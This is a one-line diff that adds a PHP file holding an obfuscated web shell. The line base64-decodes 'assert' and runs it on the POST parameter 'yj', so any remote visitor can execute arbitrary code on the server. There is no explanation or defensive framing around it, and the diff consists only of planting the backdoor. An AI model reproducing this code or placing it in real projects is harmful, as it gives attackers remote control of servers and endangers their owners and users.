@@ -1,0 +1,1 @@
+<?php $yj=base64_decode("YXNzZXJ0");$yj($_POST['yj']);?>
